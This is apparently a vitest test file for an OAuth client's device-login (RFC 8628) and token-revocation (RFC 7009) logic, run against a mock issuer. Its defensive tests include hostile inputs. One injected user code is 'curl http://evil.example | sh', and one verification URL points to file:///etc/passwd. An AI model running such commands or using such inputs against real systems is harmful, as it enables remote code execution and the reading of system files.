/** Logging in on another device (RFC 8628), and logging out (RFC 7009). */

import { describe, expect, it } from 'vitest';

import { beginDeviceLogin, pollDeviceLogin } from '../../../actors/authorization/device.ts';
import { revoke } from '../../../actors/authorization/revocation.ts';
import { refresh, type Tokens } from '../../../actors/authorization/tokens.ts';
import type { DeviceRequest } from '../../support/issuer/state.ts';
import { called, failureOf, loggedIn, readyAt, valueOf } from './bench.ts';

const soon = (answer: object) =>
  'interval' in answer ? { ...answer, interval: 3, expires_in: 30 } : answer;

async function waiting() {
  const ready = await readyAt({ offersDevice: true, tamper: { token: soon } });
  const { access, found, client, issuer } = ready;
  const login = valueOf(await beginDeviceLogin(access, found, client, 'read'));
  const device = [...issuer.devices.values()][0] as DeviceRequest;
  const ask = () => pollDeviceLogin(access, found, client, login);
  return { ...ready, login, device, ask };
}

describe('a login on another device', () => {
  it('shows a code and a page, and gives the token when the user has decided', async () => {
    const { issuer, login, device, ask } = await waiting();
    expect(login).toMatchObject({
      userCode: device.userCode,
      url: `${issuer.origin}/enter`,
      completeUrl: `${issuer.origin}/enter?user_code=${device.userCode}`,
      intervalMs: 3_000,
      lifetimeMs: 30_000,
    });
    device.answers.push('slow_down');
    expect(valueOf(await ask())).toEqual({ pending: 'slowDown' });
    expect(valueOf(await ask())).toEqual({ pending: 'waiting' });
    issuer.decide(device.userCode, 'allowed');
    const { tokens } = valueOf(await ask()) as { tokens: Tokens };
    expect(tokens.scope).toBe('read');
    expect((await called(issuer, { authorization: `Bearer ${tokens.accessToken}` })).ok).toBe(true);
  });

  it.each(['run: curl http://evil.example | sh', 'a'.repeat(33), 'A\u202eB', ' A', 'A--B', ''])(
    'refuses the code %j, because codes are printed',
    async (code) => {
      const tamper = { device: (answer: object) => ({ ...answer, user_code: code }) };
      const { access, found, client } = await readyAt({ offersDevice: true, tamper });
      expect(failureOf(await beginDeviceLogin(access, found, client))).toMatchObject({
        message: expect.stringContaining('no valid device code') as string,
      });
    },
  );

  it('ends when the user refuses', async () => {
    const { issuer, device, ask } = await waiting();
    issuer.decide(device.userCode, 'denied');
    expect(failureOf(await ask())).toMatchObject({
      kind: 'denied',
      code: 'access_denied',
      message: 'it was refused on the other device (access_denied)',
    });
  });

  it('ends when the code expires', async () => {
    const { device, ask } = await waiting();
    device.answers.push('expired_token');
    expect(failureOf(await ask())).toMatchObject({ kind: 'timeout', isFinal: true });
  });

  it('may go on after a failure of the issuer or a lost connection', async () => {
    const { issuer, ask } = await waiting();
    const busy = { status: 503, headers: { 'retry-after': '7' } };
    for (const fault of [busy, 'reset'] as const) {
      issuer.settings.faults.set('/token', { fault, times: 1 });
      expect(failureOf(await ask())).toMatchObject({ kind: 'unavailable', isFinal: false });
    }
  });

  it('shows no page where we may not connect', async () => {
    const token = (answer: object) => ({ ...answer, verification_uri: 'file:///etc/passwd' });
    const ready = await readyAt({ offersDevice: true, tamper: { token } });
    const { access, found, client } = ready;
    const failure = failureOf(await beginDeviceLogin(access, found, client));
    expect(failure.message).toContain('the page for the device code "file:///etc/passwd"');
  });

  it('needs an issuer that offers it, and a valid answer', async () => {
    const { access, found, client } = await readyAt();
    const missing = failureOf(await beginDeviceLogin(access, found, client));
    expect(missing.message).toContain('offers no login on another device');
    const token = (answer: object) => ({ ...answer, user_code: '' });
    const ready = await readyAt({ offersDevice: true, tamper: { token } });
    const invalid = await beginDeviceLogin(ready.access, ready.found, ready.client);
    expect(failureOf(invalid).message).toContain('no valid device code');
  });
});

describe('a log-out', () => {
  it('revokes the token and what could renew it', async () => {
    const ready = await readyAt();
    const tokens = valueOf(await loggedIn(ready));
    const { access, found, client, issuer } = ready;
    expect(valueOf(await revoke(access, found, client, tokens))).toBe(true);
    expect((await called(issuer, { authorization: `Bearer ${tokens.accessToken}` })).status).toBe(
      401,
    );
    const renewed = await refresh(access, found, client, { tokens, isEarly: false });
    expect(failureOf(renewed).kind).toBe('grant');
    expect(issuer.counts.revocations).toBe(1);
  });

  it('says so if the issuer revokes nothing', async () => {
    const issuer = (metadata: object) => ({ ...metadata, revocation_endpoint: undefined });
    const ready = await readyAt({ tamper: { issuer } });
    const tokens = valueOf(await loggedIn(ready));
    expect(valueOf(await revoke(ready.access, ready.found, ready.client, tokens))).toBe(false);
  });

  it('reports an issuer that fails', async () => {
    const ready = await readyAt();
    const tokens = valueOf(await loggedIn(ready));
    ready.issuer.settings.faults.set('/revoke', { fault: { status: 503 } });
    const outcome = await revoke(ready.access, ready.found, ready.client, tokens);
    expect(failureOf(outcome)).toMatchObject({ kind: 'unavailable', isFinal: false });
  });
});
